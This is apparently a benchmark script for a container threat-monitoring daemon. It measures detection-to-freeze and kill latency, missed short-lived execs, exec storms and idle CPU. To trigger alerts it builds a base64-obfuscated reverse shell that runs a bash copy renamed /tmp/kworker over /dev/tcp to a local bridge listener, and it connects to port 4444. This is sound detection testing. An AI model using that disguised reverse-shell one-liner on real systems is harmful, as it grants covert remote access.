"""Threat monitor figures: detection-to-action latency for a reverse shell and for a connect to
port 4444 (p50/p95 over up to 20 runs), the share of short-lived execs (/bin/true, about a
millisecond) whose command line the daemon missed, an exec storm (4 workers in one container
asking for 2,000 execs/s for 4 s: the share the daemon never counted), the daemon's CPU use
(with its exec capture process) while watching 10 idle containers, and a reverse shell in
sessions with the default actions (critical -> kill): connection to frozen, to no longer
running (its cgroup gone) and to deleted.

Latency is measured on this host's clock, end to end: from the moment the host-side listener
(on the bridge address, never anywhere else) accepts the container's connection to the moment
the monitor's event socket delivers the record, which the daemon emits after the container is
frozen. The daemon's own figure (kernel event received -> frozen) is reported alongside.
For the first figures the actions are `pause` for every level so one container serves all
runs; the kill figures use one fresh session each.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path
from typing import Any

from bench.common import Figure, percentile
from coi_tui.core.cgroups import PAYLOAD, V2_ROOTS
from coi_tui.incus import Incus, IncusError, InstanceNotFound
from coi_tui.monitor.config import SESSION_KEY

IMAGE = "coi-default"
GATEWAY = "10.199.0.1"
HAS_ADDRESS = "until ip -4 -o addr show dev eth0 | grep -q inet; do sleep 0.1; done"
REPO = Path(__file__).resolve().parents[1]


class Events:
    def __init__(self, path: Path) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(str(path))
        self.items: list[tuple[float, dict[str, Any]]] = []
        self.cond = threading.Condition()
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        buffer = b""
        while data := self.sock.recv(65536):
            buffer += data
            *lines, buffer = buffer.split(b"\n")
            now = time.monotonic()
            with self.cond:
                self.items += [(now, json.loads(x)) for x in lines if x]
                self.cond.notify_all()

    def wait(self, match: Any, timeout: float = 10) -> tuple[float, dict[str, Any]] | None:
        deadline = time.monotonic() + timeout
        with self.cond:
            while True:
                for item in self.items:
                    if match(item[1]):
                        self.items.remove(item)
                        return item
                left = deadline - time.monotonic()
                if left <= 0:
                    return None
                self.cond.wait(left)


class Listener:
    def __init__(self, port: int = 0) -> None:
        self.server = socket.socket()
        self.server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.server.bind((GATEWAY, port))
        self.server.listen(16)
        self.port = self.server.getsockname()[1]
        self.accepted: list[tuple[float, socket.socket]] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            self.accepted.append((time.monotonic(), conn))

    def close_all(self) -> None:
        for _, conn in self.accepted:
            conn.close()
        self.accepted.clear()


def launch(incus: Incus, name: str, config: dict[str, str] | None = None) -> None:
    nic = {"type": "nic", "network": "coibr0", "name": "eth0"}
    incus.create_instance(name, IMAGE, config=config, devices={"eth0": nic}, start=True)


def running(name: str) -> bool:
    """Whether LXC still has the container's cgroup (removed once all its processes are
    gone: the container no longer runs, whatever Incus does next)."""
    return any(os.path.isdir(f"{root}/{PAYLOAD}{name}") for root in V2_ROOTS)


def measure(
    incus: Incus, events: Events, name: str, listener: Listener, script: str, rule: set[str],
    runs: int, budget: float,
) -> tuple[list[float], list[float]]:  # fmt: skip
    e2e: list[float] = []
    internal: list[float] = []
    started = time.monotonic()
    for _ in range(runs):
        if time.monotonic() - started > budget:
            break
        listener.close_all()
        with events.cond:
            events.items.clear()  # nothing of the previous run may count for this one
        t0 = time.monotonic()
        proc = subprocess.Popen(
            ["incus", "exec", name, "--", "bash", "-c", script],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        got = events.wait(
            lambda m: m.get("type") == "threat" and m.get("container") == name
            and m.get("rule_id") in rule
        )  # fmt: skip
        accepted = [t for t, _ in listener.accepted if t >= t0]
        if got and accepted:
            # the host accepts just after the SYN the monitor sees, so for network events
            # this can be slightly negative: detection beat the handshake
            e2e.append(got[0] - accepted[0])
            internal.append(got[1].get("detect_to_action_ms", 0) / 1000)
        # clean up within the de-duplication window, so the old shell is not re-reported
        proc.kill()
        listener.close_all()
        # the daemon's own Incus freeze follows its cgroup freeze: let it land first
        incus.wait_for_status(name, ["Frozen"], 3)
        for _ in range(5):  # a relay of the old shell may be reported once more
            try:
                if incus.status(name) == "Frozen":
                    incus.unfreeze(name)
                incus.exec_capture(
                    name, ["pkill", "-9", "-f", "kworker|create_connection"], timeout=5
                )
                break
            except IncusError:
                continue
        events.wait(lambda m: m.get("type") == "status" and m.get("container") == name, 1.5)
    return e2e, internal


def latency_figures(
    label: str, e2e: list[float], internal: list[float], limit: float
) -> list[Figure]:
    if not e2e:
        return [Figure(f"{label}_p95_s", float("nan"), "s", 0, target=f"< {limit}", met=False)]
    p95 = percentile(e2e, 95)
    extra = {"daemon_internal_p50_s": percentile(internal, 50),
             "daemon_internal_p95_s": percentile(internal, 95)}  # fmt: skip
    return [
        Figure(f"{label}_p50_s", percentile(e2e, 50), "s", len(e2e), min(e2e), max(e2e)),
        Figure(f"{label}_p95_s", p95, "s", len(e2e), min(e2e), max(e2e), f"< {limit}",
               p95 < limit, extra=extra),
    ]  # fmt: skip


def exec_capture_figures(incus: Incus, pid: int, home: Path, name: str, count: int) -> list[Figure]:
    """Short-lived processes: `count` execs of /bin/true (about a millisecond each) with a
    marker argument; the share whose command line the daemon did not capture (its exec
    event came in after the process was gone). Read from the daemon's SIGUSR1 stats."""
    marker = f"coimark{uuid.uuid4().hex[:6]}"
    loop = f"for i in $(seq {count}); do /bin/true {marker}-$i; done"
    result = incus.exec_capture(name, ["bash", "-c", loop], timeout=120)
    if result.exit_code != 0:
        return []
    stats_path = home / "monitor.stats.json"
    deadline = time.monotonic() + 10
    captured = -1
    while time.monotonic() < deadline:
        stats_path.unlink(missing_ok=True)
        os.kill(pid, signal.SIGUSR1)
        while time.monotonic() < deadline and not stats_path.exists():
            time.sleep(0.02)
        try:
            stats = json.loads(stats_path.read_text()).get(name, {})
        except (OSError, ValueError):
            continue
        seen = {a[1] for a in stats.get("recent", []) if len(a) > 1 and a[1].startswith(marker)}
        if len(seen) == captured:  # settled: nothing more is queued
            break
        captured = len(seen)
        time.sleep(0.2)
    missed = 100.0 * (count - max(0, captured)) / count
    return [Figure("monitor_short_lived_exec_missed", missed, "%", count, target="< 5",
                   met=missed < 5, extra={"execs": count, "captured": captured})]  # fmt: skip


def read_stats(pid: int, home: Path, deadline: float) -> dict[str, Any] | None:
    """The daemon's SIGUSR1 stats dump (per container: exec counts, recent command lines)."""
    stats_path = home / "monitor.stats.json"
    stats_path.unlink(missing_ok=True)
    os.kill(pid, signal.SIGUSR1)
    while time.monotonic() < deadline and not stats_path.exists():
        time.sleep(0.02)
    try:
        return json.loads(stats_path.read_text())
    except (OSError, ValueError):
        return None


def settled_execs(pid: int, home: Path, name: str, timeout: float = 15) -> tuple[int, int]:
    """(execs, execs without a command line) the daemon counted for `name`, once two dumps
    in a row agree (nothing more queued)."""
    deadline = time.monotonic() + timeout
    last = (-1, -1)
    while time.monotonic() < deadline:
        stats = read_stats(pid, home, deadline)
        if stats is None:
            continue
        entry = stats.get(name, {})
        now = (int(entry.get("execs", 0)), int(entry.get("execs_without_argv", 0)))
        if now == last:
            break
        last = now
        time.sleep(0.3)
    return last


# One storm worker: posix_spawn (vfork, cheaper than a shell's fork) of /bin/true with a
# marker, paced to its share of the rate, children reaped as they go.
STORM_WORKER = """
import os, sys, time
marker, rate, count = sys.argv[1], float(sys.argv[2]), int(sys.argv[3])
start = time.monotonic()
for i in range(count):
    wait = start + i / rate - time.monotonic()
    if wait > 0:
        time.sleep(wait)
    os.posix_spawn("/bin/true", ["/bin/true", f"{marker}-{i}"], os.environ)
    while True:
        try:
            if os.waitpid(-1, os.WNOHANG)[0] == 0:
                break
        except ChildProcessError:
            break
while True:
    try:
        os.wait()
    except ChildProcessError:
        break
"""


def exec_storm_figures(
    incus: Incus, pid: int, home: Path, name: str, rate: int, seconds: float, loops: int
) -> list[Figure]:
    """`loops` parallel workers in one container spawning /bin/true at `rate` execs/s in
    all for `seconds` (or as fast as the machine lets them, below that); the share of those
    execs the daemon never counted (its stats dump), the rate reached, and the share it
    counted without reading the command line."""
    marker = f"coistorm{uuid.uuid4().hex[:6]}"
    per_loop = int(rate * seconds / loops)
    before, before_noargv = settled_execs(pid, home, name)
    cpu0 = cpu_seconds(pid)
    worker = f"python3 -c '{STORM_WORKER}' {marker}-$j {rate / loops} {per_loop}"
    script = (
        f"t0=$EPOCHREALTIME; for j in {{1..{loops}}}; do {worker} & done; wait; "
        'echo "$t0 $EPOCHREALTIME"'
    )
    result = incus.exec_capture(name, ["bash", "-c", script], timeout=120)
    if result.exit_code != 0:
        return []
    t0, t1 = (float(x) for x in result.stdout.split())
    after, after_noargv = settled_execs(pid, home, name)
    cpu_ms = (cpu_seconds(pid) - cpu0) * 1000
    expected = loops * per_loop
    seen = after - before - 1 - loops  # bash itself and the workers' python
    missed = 100.0 * max(0, expected - seen) / expected
    reached = expected / max(1e-6, t1 - t0)
    no_argv = 100.0 * max(0, after_noargv - before_noargv) / expected
    extra = {"execs": expected, "counted": seen, "loops": loops, "seconds": round(t1 - t0, 2),
             "asked_per_s": rate, "without_argv_pct": round(no_argv, 2),
             "monitor_cpu_ms_per_exec": round(cpu_ms / expected, 3)}  # fmt: skip
    return [
        Figure("monitor_exec_storm_rate", reached, "execs/s", 1, target=f">= {rate}",
               met=reached >= rate * 0.95),
        Figure("monitor_exec_storm_missed", missed, "%", expected, target="0", met=missed == 0,
               extra=extra),
    ]  # fmt: skip


def gone_figures(
    incus: Incus, events: Events, names: list[str], listener: Listener, script: str
) -> list[Figure]:
    """A reverse shell in each of `names` (sessions with the default actions: critical ->
    kill): the host's accept of its connection until the monitor's record (frozen), until
    the container stopped running (its cgroup gone), and until Incus no longer has it."""
    frozen: list[float] = []
    gone: list[float] = []
    deleted: list[float] = []
    for name in names:
        listener.close_all()
        with contextlib.suppress(IncusError, subprocess.TimeoutExpired):  # booted: an address
            incus.exec_capture(name, ["bash", "-c", HAS_ADDRESS], timeout=30)
        t0 = time.monotonic()
        proc = subprocess.Popen(
            ["incus", "exec", name, "--", "bash", "-c", script],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        got = events.wait(
            lambda m, n=name: m.get("type") == "threat" and m.get("container") == n
            and m.get("action") == "killed"
        )  # fmt: skip
        accepted = [t for t, _ in listener.accepted if t >= t0]
        ended = None
        while got and time.monotonic() - t0 < 15:
            if not running(name):
                ended = time.monotonic()
                break
            time.sleep(0.005)
        removed = None
        while ended is not None and time.monotonic() - t0 < 30:
            try:
                incus.get_instance(name)
            except InstanceNotFound:
                removed = time.monotonic()
                break
            time.sleep(0.02)
        proc.kill()
        proc.wait()
        if got and accepted:
            frozen.append(got[0] - accepted[0])
            if ended is not None:
                gone.append(ended - accepted[0])
            if removed is not None:
                deleted.append(removed - accepted[0])
    figures: list[Figure] = []
    for label, values, limit in (("monitor_kill_frozen", frozen, 0.2),
                                 ("monitor_kill_gone", gone, 1.0)):  # fmt: skip
        if not values:
            figures.append(Figure(f"{label}_p95_s", float("nan"), "s", 0, target=f"< {limit}",
                                  met=False))  # fmt: skip
            continue
        p95 = percentile(values, 95)
        extra = {"runs_started": len(names)}
        if label == "monitor_kill_gone" and deleted:
            extra |= {"deleted_p50_s": percentile(deleted, 50),
                      "deleted_p95_s": percentile(deleted, 95)}  # fmt: skip
        figures += [
            Figure(f"{label}_p50_s", percentile(values, 50), "s", len(values), min(values),
                   max(values)),
            Figure(f"{label}_p95_s", p95, "s", len(values), min(values), max(values),
                   f"< {limit}", p95 < limit, extra=extra),
        ]  # fmt: skip
    return figures


def cpu_seconds(pid: int, own: bool = False) -> float:
    """The daemon's CPU time plus its exec capture process's (its child); `own`: the
    daemon's alone."""
    total = 0.0
    for proc in [pid] if own else [pid, *children(pid)]:
        with open(f"/proc/{proc}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        total += (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    return total


def idle_figures(pid: int, window: float) -> list[Figure]:
    """The daemon's CPU (with its exec capture process's) over `window` seconds of 10 idle
    containers. The capture process is woken by every exec and fork on the host, watched
    or not, so the host's event rate during the window is reported with it."""
    counter = HostEvents()
    wall0 = time.monotonic()
    daemon0, capture0 = cpu_seconds(pid, own=True), cpu_seconds(pid) - cpu_seconds(pid, own=True)
    time.sleep(window)
    wall = time.monotonic() - wall0
    daemon = (cpu_seconds(pid, own=True) - daemon0) / wall * 100
    capture = (cpu_seconds(pid) - cpu_seconds(pid, own=True) - capture0) / wall * 100
    share = daemon + capture
    extra = {"window_s": round(wall, 1), "daemon_pct": round(daemon, 3),
             "capture_pct": round(capture, 3),
             "host_exec_fork_per_s": round(counter.stop() / wall, 1)}  # fmt: skip
    return [
        Figure("monitor_idle_cpu_10_containers", share, "%", 1, target="< 1", met=share < 1,
               extra=extra),
        # the daemon alone: what watching 10 containers costs, whatever else runs on the host
        Figure("monitor_idle_cpu_daemon_only", daemon, "%", 1, target="< 1", met=daemon < 1),
    ]  # fmt: skip


class HostEvents:
    """Counts the host's exec and fork events (the proc connector, as the capture sees
    them) until stop()."""

    def __init__(self) -> None:
        from coi_tui.monitor.netlink import ProcConnector, parse_proc_events

        self.parse = parse_proc_events
        self.conn = ProcConnector()
        self.conn.sock.settimeout(0.2)
        self.count = 0
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._read, daemon=True)
        self.thread.start()

    def _read(self) -> None:
        while not self.done.is_set():
            try:
                data = self.conn.sock.recv(65536)
            except OSError:
                continue
            self.count += sum(e.kind in ("exec", "fork") for e in self.parse(data))

    def stop(self) -> int:
        self.done.set()
        self.thread.join()
        self.conn.sock.close()
        return self.count


def children(pid: int) -> list[int]:
    try:
        with open(f"/proc/{pid}/task/{pid}/children") as f:
            return [int(x) for x in f.read().split()]
    except OSError:
        return []


def run(budget_s: float = 150) -> list[Figure]:
    incus = Incus()
    incus.require_image(IMAGE)
    prefix = f"coibench{uuid.uuid4().hex[:4]}m-"
    home = Path(tempfile.mkdtemp(prefix="coi-bench-monitor-"))
    (home / "config.toml").write_text(
        "[monitoring]\ndedup_window_sec = 5\nidle_exit_sec = 600\n"
        "spawn_rate_per_sec = 0\n"  # the exec-capture loop is a deliberate spawn storm
        '[monitoring.actions]\nhigh = "pause"\ncritical = "pause"\n'
    )
    env = {**os.environ, "COI_HOME": str(home), "COI_CONTAINER_PREFIX": prefix,
           "PYTHONPATH": str(REPO)}  # fmt: skip
    coi = [sys.executable, "-m", "coi_tui.cli.main", "monitor"]
    names = [f"{prefix}{i}" for i in range(10)]
    figures: list[Figure] = []
    listeners: list[Listener] = []
    try:
        subprocess.run([*coi, "--daemon"], env=env, check=True, capture_output=True)
        pid = int((home / "monitor.pid").read_text())
        events = Events(home / "monitor.sock")
        for name in names:
            launch(incus, name)
        for name in names:
            events.wait(lambda m, n=name: m.get("type") == "watch" and m.get("container") == n, 60)
        target = names[0]
        shell = Listener()
        c2 = Listener(4444)
        listeners += [shell, c2]
        inner = f"/tmp/kworker -i >& /dev/tcp/{GATEWAY}/{shell.port} 0>&1"
        encoded = base64.b64encode(inner.encode()).decode()
        revshell = f"cp /bin/bash /tmp/kworker; echo {encoded} | base64 -d | /tmp/kworker"
        per = max(10.0, (budget_s - 75) / 3)
        e2e, internal = measure(incus, events, target, shell, revshell,
                                {"proc.revshell-socket-stdio"}, 20, per)  # fmt: skip
        figures += latency_figures("monitor_revshell_latency", e2e, internal, 0.2)
        connect = (f"python3 -c \"import socket; s = socket.create_connection(('{GATEWAY}', 4444));"
                   " import time; time.sleep(5)\"")  # fmt: skip
        e2e, internal = measure(incus, events, names[1], c2, connect, {"net.c2-port"}, 20, per)
        figures += latency_figures("monitor_c2_port_latency", e2e, internal, 0.15)
        figures += exec_capture_figures(incus, pid, home, names[2], 400)
        figures += exec_storm_figures(incus, pid, home, names[3], 2000, 4.0, loops=4)
        # idle: 10 containers watched, nothing happening in them
        for name in names[:2]:
            if incus.status(name) == "Frozen":
                incus.unfreeze(name)
        figures += idle_figures(pid, window=min(20.0, max(5.0, per)))
        # kill: sessions with the default actions (a reverse shell is critical -> kill)
        actions = json.dumps({"actions": {"high": "pause", "critical": "kill"}})
        doomed = [f"{prefix}k{i}" for i in range(5)]
        names += doomed
        for name in doomed:
            launch(incus, name, {SESSION_KEY: actions})
        for name in doomed:
            events.wait(lambda m, n=name: m.get("type") == "watch" and m.get("container") == n, 60)
        figures += gone_figures(incus, events, doomed, shell, revshell)
    finally:
        for listener in listeners:
            listener.server.close()
            listener.close_all()
        subprocess.run([*coi, "--stop"], env=env, capture_output=True)
        for name in names:
            subprocess.run(["incus", "delete", "-f", name], capture_output=True)
    return figures


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))  # still clean up
    for fig in run(float(sys.argv[1]) if len(sys.argv) > 1 else 150):
        print(json.dumps(fig.as_dict()))
